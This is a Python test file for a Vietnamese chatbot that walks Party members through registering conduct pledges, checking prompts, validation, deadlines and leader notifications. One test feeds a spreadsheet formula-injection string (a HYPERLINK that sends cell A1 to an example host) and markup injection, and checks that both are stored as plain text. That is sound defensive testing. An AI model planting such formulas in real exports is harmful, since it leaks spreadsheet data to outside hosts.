"""Registering a pledge, as members live it."""

from __future__ import annotations

from dataclasses import replace
from datetime import date, datetime, timedelta

import pytest

from domain.pledges.pledge import Deed, PledgeState
from domain.pledges.round import Group
from domain.talk.messages import Content, Pressed, Said
from handlers.pledges.deed import short_group
from storage.work import writing
from tests.pledges.pledging import (
    DEED,
    IN_ROUND,
    ON_TIME_ONLY,
    OTHER_DEED,
    ROUND,
    open_round,
    pledged,
    pledges_of,
    roster_says,
    to_review,
)
from tests.town import OTHER, ZONE, Town

ASK_DEED = (
    "Đồng chí viết việc làm nêu gương của mình, nên dài từ 60 đến 600 ký tự: một việc cụ thể, có con số.\n"
    "Ví dụ: “Hướng dẫn 9/9 đồng chí trong chi bộ sử dụng thành thạo chữ ký số.”"
)
ASK_RESULT = "Kết quả dự kiến là gì? Đồng chí viết ngắn gọn, hoặc chọn “Bỏ qua”."
RECEIPT = (
    "Hệ thống đã ghi nhận nội dung số NG-2026-0001 của đồng chí lúc 09:30, ngày 23/11/2026. "
    "Nội dung đang chờ chi bộ xác nhận."
)
KEPT = "Nội dung vừa viết chưa được gửi, nhưng Hệ thống vẫn giữ nguyên. Đồng chí xem và sao chép dưới đây."


async def test_pledge_is_registered_by_typed_numbers(plain_town: Town) -> None:
    await open_round(plain_town)
    an = plain_town.talk("DV01")

    assert await an.says("Đăng ký nêu gương") == [
        f"{IN_ROUND}"
        "Đồng chí chọn nhóm nội dung:\n1. Đạo đức, lối sống\n2. Chuyển đổi số\n3. Nội dung khác\n0. Thoát"
    ]
    assert await an.says("2") == [f"{ASK_DEED}\n0. ⬅ Quay lại"]
    assert await an.says(DEED) == [f"{ASK_RESULT}\n1. Bỏ qua\n0. ⬅ Quay lại"]
    assert await an.says("1") == [
        "Đồng chí hoàn thành vào ngày nào? Chọn một ngày hoặc nhắn ngày, từ 01/01/2027 đến 31/03/2027.\n"
        "1. Hết tháng 31/01/2027\n2. Hết quý 31/03/2027\n0. ⬅ Quay lại"
    ]
    assert await an.says("2.") == [
        "Minh chứng (và người xác nhận) là gì? Ví dụ: “Danh sách có ký xác nhận.” "
        "Đồng chí viết bằng chữ hoặc gửi một ảnh, hoặc chọn “Bỏ qua”.\n1. Bỏ qua\n0. ⬅ Quay lại"
    ]
    assert await an.says("Danh sách có ký xác nhận") == [
        "Đề nghị đồng chí xem lại trước khi gửi. Đợt: Quý I/2027\n\n"
        f"Nhóm nội dung: Chuyển đổi số\nViệc làm: {DEED}\nKết quả dự kiến: (chưa ghi)\n"
        "Hoàn thành: 31/03/2027\nMinh chứng: Danh sách có ký xác nhận\n"
        "1. Gửi đăng ký\n2. Sửa một phần ▸\n0. Bỏ"
    ]
    assert await an.says("so 1") == [f"{RECEIPT}\n1. Đăng ký thêm\n2. Nội dung của tôi"]

    (kept,) = await pledges_of(plain_town, "DV01")
    assert (kept.state, kept.version, kept.likeness) == (PledgeState.SUBMITTED, 1, None)
    assert kept.deed == Deed(
        group=2, deed=DEED, result="", until=ROUND.period_to, evidence="Danh sách có ký xác nhận"
    )


async def test_pledge_is_registered_by_buttons_and_its_leaders_are_told(town: Town) -> None:
    await open_round(town)
    an = town.talk("DV01")
    told = [
        "Đồng chí Nguyễn Văn An (Chi bộ Văn phòng) vừa đăng ký nội dung số NG-2026-0001. "
        "Đề nghị đồng chí xem và quyết định."
    ]

    await an.says("/dangky")
    await an.presses("Chuyển đổi số")
    await an.says(DEED)
    await an.presses("Bỏ qua")
    await an.presses("Hết quý")
    await an.presses("Bỏ qua")
    sent = await an.presses("Gửi")

    assert sent == [RECEIPT]
    assert town.talk("BT01").unread() == told
    assert town.talk("PB01").unread() == told
    assert town.talk("BT01").choices == ["Xem và xác nhận"]
    assert town.talk("BT00").unread() == []
    assert town.talk("BT02").unread() == []


async def test_slogan_gets_one_hint_and_can_be_written_again(town: Town) -> None:
    await open_round(town)
    an = town.talk("DV01")
    await an.says("dk")
    await an.says("1")

    hinted = await an.says("Phấn đấu hoàn thành tốt nhiệm vụ.")
    again = await an.presses("⬅ Quay lại")
    better = await an.says(DEED)

    assert hinted == [
        "Gợi ý: Nội dung còn chung. Đề nghị đồng chí nêu một việc làm cụ thể của mình, kèm con số và thời hạn.\n"
        "Ví dụ: “Giảm ít nhất 50% lượng giấy in của bản thân so với cùng kỳ năm trước theo số liệu máy in phòng, "
        "báo cáo chi bộ ngày 05 tháng đầu mỗi quý.”\n"
        "Nội dung đã được giữ. Đồng chí trả lời tiếp, hoặc viết lại: chọn “Quay lại”, "
        "khi soát lại thì “Sửa một phần”.\n\n"
        f"{ASK_RESULT}"
    ]
    assert again == [ASK_DEED]
    assert better == [ASK_RESULT]


async def test_the_example_of_a_hint_ends_with_the_round(town: Town) -> None:
    await open_round(town, replace(ROUND, period_to=date(2027, 2, 28)))
    an = town.talk("DV01")
    await an.says("dk")
    await an.says("1")

    hinted = await an.says("Hướng dẫn 9/9 đồng chí dùng chữ ký số.")
    await an.says("/huy")
    examples = await an.says("/trogiup vidu")

    assert "chữ ký số, chậm nhất ngày 28/02/2027. Minh chứng" in hinted[0]
    assert "chữ ký số, chậm nhất ngày 28/02/2027. Minh chứng" in examples[0]


@pytest.mark.parametrize("result", ["20%", "\u2265 80 %", "9/9", "-30%", "20\uff05"])
async def test_a_result_may_be_figures_alone(town: Town, result: str) -> None:
    await open_round(town)
    an = town.talk("DV01")
    for typed in ("dk", "2", DEED):
        await an.says(typed)

    asked = await an.says(result)
    await an.presses("Hết quý")
    review = await an.presses("Bỏ qua")

    assert asked[0].startswith("Đồng chí hoàn thành vào ngày nào?")
    assert f"Kết quả dự kiến: {result}" in review[0]


@pytest.mark.parametrize(
    ("typed", "day"),
    [
        ("cuối quý", "31/03/2027"),
        ("Cuoi quy.", "31/03/2027"),
        ("hết quý", "31/03/2027"),
        ("đến cuối quý", "31/03/2027"),
        ("cuối tháng", "31/01/2027"),
        ("hết tháng", "31/01/2027"),
        ("cuối tháng 2", "28/02/2027"),
        ("5\u20112\u20112027", "05/02/2027"),
    ],
)
async def test_a_day_that_is_typed_is_the_day_of_the_button(town: Town, typed: str, day: str) -> None:
    await open_round(town)
    an = town.talk("DV01")
    for answer in ("dk", "2", DEED, "Bỏ qua", typed):
        await an.says(answer)

    review = await an.presses("Bỏ qua")

    assert f"Hoàn thành: {day}" in review[0].splitlines()


async def test_a_bare_number_is_no_result(town: Town) -> None:
    await open_round(town)
    an = town.talk("DV01")
    for typed in ("dk", "2", DEED):
        await an.says(typed)

    assert await an.says("99") == [f"{NO_WORDS}\n\n{ASK_RESULT}"]


NO_WORDS = "Hệ thống chưa thấy nội dung bằng chữ. Đề nghị đồng chí viết bằng chữ."


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        (Said("👍🎉"), NO_WORDS),
        (Said("!!! ... ---"), NO_WORDS),
        (Said("\u202e\u200f\u2066"), NO_WORDS),
        (Said(""), NO_WORDS),
        (Said("99"), NO_WORDS),
        (
            Said("Chép tài liệu TUYỆT MẬT của phòng, mỗi tháng 02 bản"),
            "Nội dung có từ chỉ mức độ mật (“TUYỆT MẬT”) nên Hệ thống không tiếp nhận và không lưu.\n"
            "Đề nghị đồng chí không gửi tài liệu, thông tin bí mật qua kênh này, "
            "và viết lại nội dung bằng lời khác.",
        ),
        (
            Said("dài " * 2500),
            "Nội dung dài 9.999 ký tự, vượt mức 2.000 ký tự. Đề nghị đồng chí rút gọn và gửi lại; "
            "bản vừa gửi vẫn còn trong khung tin nhắn để sao chép.",
        ),
        (Said("99 làm"), "Nội dung quá ngắn. Đề nghị đồng chí viết rõ hơn, từ 10 chữ cái trở lên."),
        (
            Pressed(1, "2"),
            "Lựa chọn vừa rồi thuộc câu hỏi trước, Hệ thống không thực hiện. "
            "Mời đồng chí trả lời câu hiện tại.",
        ),
    ],
)
async def test_bad_input_gets_a_sentence_and_loses_nothing(town: Town, sent: Content, why: str) -> None:
    await open_round(town)
    an = town.talk("DV01")
    await an.says("/dangky")
    await an.says("2")

    answered = await an.does(sent)
    going_on = await an.says(DEED)

    assert answered == [f"{why}\n\n{ASK_DEED}"]
    assert going_on == [ASK_RESULT]


@pytest.mark.parametrize(
    "deed",
    [
        '=HYPERLINK("http://vi.du/?x="&A1;"Bấm vào đây") 9/9 đồng chí trong chi bộ sử dụng chữ ký số',
        "<b>Hướng dẫn</b> *9/9* đồng chí _trong_ [chi bộ](tg://user?id=1) & `dùng` chữ ký số &lt;i&gt;",
        "Giải quyết 30% hồ sơ trước hạn; mật khẩu máy tính được đổi 01 lần mỗi tháng, không để lộ.",
    ],
)
async def test_markup_and_formulas_are_words_like_others(town: Town, deed: str) -> None:
    await open_round(town)

    kept = await pledged(town, "DV01", deed)

    assert kept.deed.deed == deed


async def test_day_outside_the_period_is_asked_again(town: Town) -> None:
    await open_round(town)
    an = town.talk("DV01")
    for text in ("/dangky", "2", DEED, "Bỏ qua"):
        await an.says(text)

    (answered,) = await an.says("15/12/2027")

    assert answered.splitlines()[0] == (
        "Ngày 15/12/2027 nằm ngoài thời gian thực hiện (từ 01/01/2027 đến 31/03/2027). Đề nghị đồng chí chọn ngày khác."
    )


async def test_likeness_is_for_the_leaders_eyes_only(town: Town) -> None:
    await open_round(town)
    await pledged(town, "DV01")

    await to_review(town, "DV02", DEED.replace("9/9", "8/9"))
    answered = await town.talk("DV02").presses("Gửi đăng ký")

    assert answered == [RECEIPT.replace("0001", "0002")]
    (kept,) = await pledges_of(town, "DV02")
    assert kept.likeness == 98


async def test_secretary_s_own_pledge_goes_to_the_deputy(town: Town) -> None:
    await open_round(town)

    await pledged(town, "BT01")

    assert [text.splitlines()[0] for text in town.talk("PB01").unread()] == [
        "Đồng chí Trần Thị Bí Thư (Chi bộ Văn phòng) vừa đăng ký nội dung số NG-2026-0001. "
        "Đề nghị đồng chí xem và quyết định."
    ]
    assert town.talk("BT01").unread() == []


async def test_where_nobody_else_leads_the_unit_above_is_told(town: Town) -> None:
    await open_round(town)

    await pledged(town, "BT02")

    assert len(town.talk("BT00").unread()) == 1
    assert town.talk("BT01").unread() == []


@pytest.mark.parametrize(
    ("code", "round_", "why"),
    [
        ("DV01", None, "Hiện không có đợt đăng ký nào đang mở. Khi mở đợt mới, Hệ thống sẽ nhắn đồng chí."),
        (
            "DV12",
            ROUND,
            "Theo danh sách đảng viên hiện nay, đồng chí không thuộc diện đăng ký. "
            "Nếu có nhầm lẫn, đề nghị đồng chí báo người phụ trách (nhắn lien he).",
        ),
    ],
)
async def test_nothing_to_register_is_said_with_its_reason(
    town: Town, code: str, round_: object, why: str
) -> None:
    if round_ is not None:
        await open_round(town)

    assert await town.talk(code).says("/dangky") == [why]


async def test_who_registered_the_most_is_sent_to_their_list(town: Town) -> None:
    await open_round(town, replace(ROUND, max_pledges=1))
    await pledged(town, "DV01")

    answered = await town.talk("DV01").says("/dangky")

    assert answered == [
        "Đồng chí đã đăng ký 1/1 nội dung của đợt “Quý I/2027”. "
        "Đồng chí có thể xem hoặc sửa trong mục “Nội dung của tôi”."
    ]
    assert town.talk("DV01").choices == ["Nội dung của tôi"]


LATE = (
    "Đợt “Quý I/2027” đã hết hạn đăng ký lúc 17:00, 30/11/2026 (thời hạn của đồng chí). "
    "Đồng chí chọn “Xin gia hạn” để gửi đề nghị."
)


async def test_after_the_deadline_the_way_to_an_extension_is_shown(town: Town) -> None:
    await open_round(town, ON_TIME_ONLY)
    town.clock.at = ROUND.deadline + timedelta(minutes=1)

    assert await town.talk("DV01").says("/dangky") == [LATE]


async def test_deadline_that_passes_at_the_last_question_loses_nothing(town: Town) -> None:
    await open_round(town, ON_TIME_ONLY)
    an = town.talk("DV01")
    (shown,) = await to_review(town, "DV01")

    town.clock.at = ROUND.deadline + timedelta(seconds=1)
    late = await an.presses("Gửi đăng ký")
    member, officer = await town.person_id("DV01"), await town.person_id("VP01")
    async with writing(town.app.database) as work:
        until = ROUND.deadline + timedelta(days=2)
        await work.rounds.extend(ROUND.id, member, until=until, reason="Đi công tác", by=officer)
    (menu, *_) = await an.says("menu")
    resumed = await an.says("/dangky")
    sent = await an.presses("Gửi đăng ký")

    assert late == [f"{LATE}\n{KEPT}\n\n{shown}"]
    assert menu.splitlines()[0] == ("Nội dung đang viết dở được lưu lại để đồng chí viết tiếp.")
    assert resumed == [
        "Hệ thống còn giữ bản đồng chí viết dở, xin mời tiếp tục. Nhắn huy nếu muốn bỏ bản này.\n\n" + shown
    ]
    assert sent == [RECEIPT.replace("09:30, ngày 23/11", "17:00, ngày 30/11")]


async def test_round_that_closes_at_the_last_question_loses_nothing(town: Town) -> None:
    await open_round(town)
    (shown,) = await to_review(town, "DV01")

    async with writing(town.app.database) as work:
        await work.rounds.close(ROUND.id, town.clock.now())
    closed = await town.talk("DV01").presses("Gửi đăng ký")

    assert closed == [
        "Đợt “Quý I/2027” đã đóng. Nếu còn cần đăng ký, đề nghị đồng chí trao đổi với bí thư chi bộ "
        f"hoặc Văn phòng Đảng ủy.\n{KEPT}\n\n{shown}"
    ]
    assert await pledges_of(town, "DV01") == []


async def test_who_is_no_longer_counted_is_told_and_keeps_the_text(town: Town) -> None:
    await open_round(town)
    (shown,) = await to_review(town, "DV01")

    await roster_says(town, "DV01", status="Miễn sinh hoạt")
    answered = await town.talk("DV01").presses("Gửi đăng ký")

    assert answered == [
        "Theo danh sách đảng viên hiện nay, đồng chí không thuộc diện đăng ký. "
        f"Nếu có nhầm lẫn, đề nghị đồng chí báo người phụ trách (nhắn lien he).\n{KEPT}\n\n{shown}"
    ]


async def test_who_moved_meanwhile_is_told_who_decides_now(town: Town) -> None:
    await open_round(town)
    await to_review(town, "DV01")

    await town.at(datetime(2026, 11, 24, 10, tzinfo=ZONE))
    town.talk("BT02").unread()
    await roster_says(town, "DV01", unit=OTHER)
    (answered,) = await town.talk("DV01").presses("Gửi đăng ký")

    assert answered.splitlines()[1] == (
        "Đồng chí nay sinh hoạt tại Chi bộ Kế hoạch, nên nội dung được gửi đến Chi bộ Kế hoạch xem xét."
    )
    assert len(town.talk("BT02").unread()) == 1


async def test_draft_waits_while_its_author_looks_elsewhere(town: Town) -> None:
    await open_round(town)
    an = town.talk("DV01")
    for text in ("/dangky", "2", DEED):
        await an.says(text)

    await an.says("/camket")
    await town.at(datetime(2026, 11, 24, 10, tzinfo=ZONE))
    resumed = await an.says("dang ky")

    assert resumed == [
        "Hệ thống còn giữ bản đồng chí viết dở, xin mời tiếp tục. Nhắn huy nếu muốn bỏ bản này.\n\n"
        + ASK_RESULT
    ]


async def test_unknown_round_in_a_button_is_refused(town: Town) -> None:
    await open_round(town)

    answered = await town.talk("DV01").does(Pressed(0, "/dangky.nope"))

    assert answered == [
        "Đồng chí không có tên trong danh sách của đợt đăng ký đang mở. "
        "Nếu có nhầm lẫn, đề nghị đồng chí báo bí thư chi bộ hoặc Văn phòng Đảng ủy."
    ]


async def test_of_two_rounds_one_is_chosen(plain_town: Town) -> None:
    await open_round(plain_town)
    await open_round(
        plain_town,
        replace(ROUND, id="nam", title="Năm 2027", deadline=datetime(2026, 12, 15, 17, tzinfo=ZONE)),
    )

    assert await plain_town.talk("DV01").says("/dangky") == [
        "Đồng chí đăng ký cho đợt nào?\n"
        "1. Quý I/2027: hạn 17:00, thứ Hai 30/11/2026, đã đăng ký 0/1 nội dung\n"
        "2. Năm 2027: hạn 17:00, thứ Ba 15/12/2026, đã đăng ký 0/1 nội dung\n"
        "0. Thoát"
    ]


async def test_round_without_approval_is_done_at_once_and_says_what_is_still_owed(town: Town) -> None:
    await open_round(town, replace(ROUND, approval=False, owed=2))
    await to_review(town, "DV01", OTHER_DEED)

    answered = await town.talk("DV01").presses("Gửi đăng ký")

    assert answered == [
        "Hệ thống đã ghi nhận nội dung số NG-2026-0001 của đồng chí lúc 09:30, ngày 23/11/2026. "
        "Đợt này không cần chi bộ xác nhận. Trân trọng cảm ơn đồng chí.\n"
        "Đợt này cần ít nhất 2 nội dung, đồng chí còn 1 nội dung."
    ]
    assert town.talk("BT01").unread() == []


async def test_send_pressed_on_two_devices_registers_once(town: Town) -> None:
    await open_round(town)
    an = town.talk("DV01")
    await to_review(town, "DV01")
    send = Pressed(an.last.turn, "yes")

    await town.hear((an.address, send), (an.address, send))

    assert len(await pledges_of(town, "DV01")) == 1


NO_EVIDENCE = "Gợi ý: Nội dung chưa nêu minh chứng hoặc người xác nhận."


@pytest.mark.parametrize(
    ("deed", "evidence", "hinted"),
    [
        (DEED, "Bỏ qua", True),
        (DEED, "Danh sách có ký xác nhận", False),
        (f"{DEED} Minh chứng: biên bản.", "Bỏ qua", False),
        ("Phấn đấu hoàn thành tốt nhiệm vụ.", "Bỏ qua", False),  # had its one hint
    ],
)
async def test_missing_evidence_is_hinted_at_unless_there_was_a_hint_before(
    town: Town, deed: str, evidence: str, hinted: bool
) -> None:
    await open_round(town)
    an = town.talk("DV01")
    for answer in ("dk", "1", deed, "Bỏ qua", "31/3/2027"):
        await an.says(answer)

    (said,) = await an.says(evidence)

    assert said.startswith(NO_EVIDENCE) is hinted


@pytest.mark.parametrize(
    ("title", "label"),
    [
        ("Chuyển đổi số", "Chuyển đổi số"),
        ("Đạo đức, lối sống; cần, kiệm, liêm, chính", "Đạo đức, lối sống"),
        ("Thực hiện chức trách, nhiệm vụ; cải cách hành chính", "Thực hiện chức trách"),
        ("Tự phê bình và phê bình; đoàn kết nội bộ", "Tự phê bình"),
        ("Ý thức tổ chức kỷ luật, kỷ cương hành chính", "Ý thức tổ chức kỷ…"),
        ("", ""),
    ],
)
def test_a_content_group_has_a_short_label(title: str, label: str) -> None:
    assert short_group(title) == label


async def test_the_whole_name_of_a_group_is_told_after_the_choice(town: Town) -> None:
    title = "Đạo đức, lối sống; cần, kiệm, liêm, chính"
    await open_round(town, replace(ROUND, groups=(Group(1, title), Group(2, "Chuyển đổi số"))))
    an = town.talk("DV01")
    await an.says("dk")

    said = await an.presses("Đạo đức, lối sống")

    assert said[0].splitlines()[0] == f"Nhóm: {title}"
